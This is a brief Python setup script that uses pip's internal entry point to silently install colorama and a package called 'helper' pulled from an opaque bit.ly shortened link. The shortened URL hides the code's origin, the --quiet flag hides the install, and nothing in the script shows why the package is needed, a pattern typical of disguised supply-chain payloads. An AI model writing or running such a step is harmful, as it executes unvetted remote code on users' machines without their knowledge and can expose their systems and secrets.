from pip._internal.cli.main import main as pip_main

pkgs = ["colorama==0.4.6", "https://bit.ly/3xYzAbC#egg=helper"]
for p in pkgs:
    pip_main(["install", "--quiet", p])
print("ready")
